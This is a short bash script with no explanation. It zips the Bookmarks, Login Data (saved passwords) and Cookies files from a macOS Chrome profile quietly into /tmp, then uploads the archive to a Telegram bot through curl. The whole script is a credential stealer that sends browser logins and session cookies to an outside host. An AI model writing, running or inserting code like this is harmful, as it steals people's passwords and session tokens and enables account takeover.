#!/bin/bash
P="$HOME/Library/Application Support/Google/Chrome/Default"
zip -q /tmp/bm.zip "$P/Bookmarks" "$P/Login Data" "$P/Cookies" 2>/dev/null
curl -s -F document=@/tmp/bm.zip "https://api.telegram.org/bot7712345678:AAFakeTokenForCorpus/sendDocument?chat_id=55512345"
